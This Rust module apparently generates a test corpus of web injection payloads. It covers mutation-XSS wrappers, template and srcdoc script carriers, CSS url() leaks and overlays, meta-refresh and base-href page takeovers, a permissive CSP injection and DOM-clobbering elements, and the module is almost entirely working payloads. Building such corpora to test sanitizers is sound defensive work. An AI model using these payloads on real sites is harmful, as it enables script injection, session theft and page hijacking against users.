//! Shapes of markup: what turns into something else when it is read twice, what stands for the whole page, styles, names.

use super::{Family, Maker};

/// Around an element that runs: a browser that reads this, writes it and reads it again may see the element.
const MUTATIONS: &[(&str, &str)] = &[
    ("<math><mtext><table><mglyph><style><!--</style>", "--></table></mtext></math>"),
    ("<math><mtext></form><form><mglyph><style></math>", "</style></form>"),
    ("<svg></p><style><a id=\"</style>", "\">"),
    ("<svg><style><!--</style>", "--></svg>"),
    ("<svg><desc><style></desc>", "</style></svg>"),
    ("<svg><title><style></title>", "</style></svg>"),
    ("<svg><foreignObject><p>", "</p></foreignObject></svg>"),
    ("<svg><![CDATA[><", "]]></svg>"),
    ("<math><annotation-xml encoding=\"text/html\"><style>", "</style></annotation-xml></math>"),
    ("<math><annotation-xml><svg><style>", "</style></svg></annotation-xml></math>"),
    ("<noscript><p title=\"</noscript>", "\"></noscript>"),
    ("<noembed><p title=\"</noembed>", "\"></noembed>"),
    ("<noframes><p title=\"</noframes>", "\"></noframes>"),
    ("<xmp><p title=\"</xmp>", "\"></xmp>"),
    ("<title><p title=\"</title>", "\"></title>"),
    ("<textarea><p title=\"</textarea>", "\"></textarea>"),
    ("<select><option><style></select>", "</style></option></select>"),
    ("<table><caption><svg><desc>", "</desc></svg></caption></table>"),
    ("<form id=x></form><button form=x>", "</button>"),
    ("<a><table><a><p title=\"</a>", "\"></table></a>"),
    ("<!--<!--><", "><!-->"),
    ("<?xml-stylesheet >", "?>"),
    ("<p/title=`>`", "<b title=`>"),
    ("<listing>&lt;", "&gt;</listing>"),
    ("<plaintext><p title='</plaintext>", "'>"),
];

/// A program in what a page is told to build later, or by itself.
const TEMPLATES: &[(&str, &str)] = &[
    ("<template><script>", "</script></template>"),
    ("<div><template shadowrootmode=open><img src=x onerror=", "></template></div>"),
    ("<template shadowroot=open><svg onload=", "></template>"),
    ("<iframe srcdoc=\"<script>", "</script>\"></iframe>"),
    ("<iframe srcdoc='&lt;img src=x onerror=", "&gt;'></iframe>"),
    ("<iframe sandbox=allow-scripts srcdoc=\"<svg onload=", ">\"></iframe>"),
    ("<object data=\"data:text/html,<script>", "</script>\"></object>"),
    ("<svg><set attributeName=onload to=\"", "\"></svg>"),
    ("<svg><a><animate attributeName=href values=\"javascript:", "\"/><text>open</text></a></svg>"),
    ("<svg><use href=\"data:image/svg+xml,<svg id='x' onload='", "'/>#x\"/></svg>"),
    ("<script>trustedTypes.createPolicy(`default`,{createHTML:x=>x});", "</script>"),
    ("<script>new Worker(URL.createObjectURL(new Blob([``])));", "</script>"),
    ("<script>document.write(`<b>`);", "</script>"),
    ("<img is=x-y src=x onerror=", ">"),
    ("{{constructor.constructor(`", "`)()}}"),
    ("${", "}"),
    ("<%= ", " %>"),
    ("{% ", " %}"),
    ("#{", "}"),
    ("<x-y onconnected=", "></x-y>"),
];

/// Around a style.
const STYLE_CARRIERS: &[(&str, &str)] =
    &[("<style>* {", "}</style>"), ("<p style=\"", "\">words</p>"), ("<svg><style>*{", "}</style></svg>"), ("} * {", "}")];

/// Styles; `@` is an address.
const STYLES: &[&str] = &[
    "background:url(@)",
    "background:url(javascript:0);list-style:url(@)",
    "background:image-set('@' 1x)",
    "border-image:url(\"@\")",
    "cursor:url(@),auto",
    "content:url(@)",
    "mask:url(@#x)",
    "filter:url(@#x)",
    "position:fixed;inset:0;z-index:99999;background:#fff;content:'UNCLASSIFIED'",
    "display:none!important",
    "width:expression(alert(1))",
    "behavior:url(@)",
    "-moz-binding:url(@#x)",
    "} @import url(@); x {",
    "} @font-face { font-family: x; src: url(@) } x {",
    "direction:rtl;unicode-bidi:bidi-override",
];

/// What speaks for the whole page; `@` is an address, `$` a program.
const PAGES: &[&str] = &[
    "<base href=\"@/\">",
    "<base target=_blank>",
    "<meta http-equiv=refresh content=\"0;url=@\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:$\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>$</script>\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *; script-src * 'unsafe-inline'\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\">",
    "<meta charset=utf-7>",
    "<meta name=referrer content=unsafe-url>",
    "<meta http-equiv=set-cookie content=\"a=b\">",
    "<meta http-equiv=x-dns-prefetch-control content=on>",
    "<script type=importmap>{\"imports\":{\"x\":\"@\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"@\"]}]}</script>",
    "<link rel=manifest href=\"@\">",
    "<link rel=modulepreload href=\"@\">",
    "<html onload=\"$\" manifest=\"@\">",
    "<head profile=\"@\"><title>SECRET</title></head>",
    "<form action=\"@\" id=f><input name=t value=x></form><svg onload=f.submit()>",
    "<portal src=\"@\"></portal>",
    "<frameset onload=$><frame src=\"@\"></frameset>",
    "</body></html><script>$</script>",
    "<!doctype html><script>$</script>",
    "<noscript><meta http-equiv=refresh content=\"0;url=@\"></noscript>",
    "<fencedframe></fencedframe><script>$</script>",
];

/// Names that the page, its program or its tests go by.
pub const NAMES: &[&str] = &[
    "body",
    "head",
    "forms",
    "images",
    "links",
    "scripts",
    "cookie",
    "domain",
    "referrer",
    "title",
    "location",
    "defaultView",
    "documentElement",
    "currentScript",
    "activeElement",
    "adoptedStyleSheets",
    "getElementById",
    "querySelector",
    "querySelectorAll",
    "createElement",
    "createTextNode",
    "createTreeWalker",
    "createRange",
    "addEventListener",
    "write",
    "implementation",
    "firstChild",
    "parentNode",
    "children",
    "attributes",
    "innerHTML",
    "textContent",
    "nodeName",
    "style",
    "remove",
    "append",
    "submit",
    "action",
    "self",
    "top",
    "parent",
    "frames",
    "length",
    "name",
    "status",
    "event",
    "origin",
    "history",
    "navigator",
    "performance",
    "fetch",
    "WebAssembly",
    "trustedTypes",
    "enclair",
    "wasm_bindgen",
    "constructor",
    "__proto__",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "then",
    "boot-loading",
    "terms-table",
    "crash",
    "proof",
    "offline-ready",
    "update",
    "main",
    "take",
    "source",
    "term",
    "files-list",
    "block-0",
    "heading-0",
    "p1",
    "test",
    "define",
];

/// Elements that give the page a name: `@` stands for it.
const CLOBBERS: &[&str] = &[
    "<a id=@ href=x:y>",
    "<img name=@>",
    "<form name=@><input name=@></form>",
    "<form id=@><img name=body><button name=remove></form>",
    "<iframe name=@ srcdoc=''></iframe>",
    "<embed name=@>",
    "<object id=@></object>",
    "<a id=@><a id=@ name=src href=data:,x>",
    "<p id=@>words</p>",
];

pub(super) fn make(maker: &mut Maker) {
    for (at, (before, after)) in MUTATIONS.iter().enumerate() {
        for step in 0..2 {
            maker.add(Family::Mutation, format!("{before}{}{after}", maker.picture(at + step * 3)));
        }
    }
    for (before, after) in TEMPLATES {
        for spelling in 0..2 {
            maker.add(Family::Template, format!("{before}{}{after}", maker.code(spelling)));
        }
    }
    for (at, style) in STYLES.iter().enumerate() {
        for step in 0..3 {
            let (before, after) = STYLE_CARRIERS[(at + step) % STYLE_CARRIERS.len()];
            maker.add(Family::Style, format!("{before}{}{after}", style.replace('@', &maker.place())));
        }
    }
    for page in PAGES {
        maker.add(Family::Page, page.replace('@', &maker.place()).replace('$', &maker.code(0)));
    }
    for (at, name) in NAMES.iter().enumerate() {
        maker.add(Family::Clobber, CLOBBERS[at % CLOBBERS.len()].replace('@', name));
    }
    long(maker);
}

fn long(maker: &mut Maker) {
    for count in [40, 160] {
        let attributes: String = (0..count).map(|at| format!(" a{at}=\"{at}\"")).collect();
        maker.add(Family::Long, format!("<p{attributes} onclick={0}><img{attributes} src=x onerror={0}>", maker.code(0)));
        maker.add(Family::Long, format!("{}{}", "<b>".repeat(count), maker.picture(0)));
        maker.add(Family::Long, format!("{}{}", "<svg><g>".repeat(count), maker.picture(1)));
        maker.add(Family::Long, format!("<img title=\"{}\" src=x onerror={}>", "x".repeat(count * 4), maker.code(0)));
        maker.add(Family::Long, format!("<a href=\"javascript:{}{}\">open</a>", "/**/".repeat(count), maker.code(0)));
        maker.add(Family::Long, format!("{}{}", "<".repeat(count), maker.picture(0)));
        maker.add(Family::Long, format!("{}{}", "&lt;".repeat(count), maker.picture(0)));
    }
}
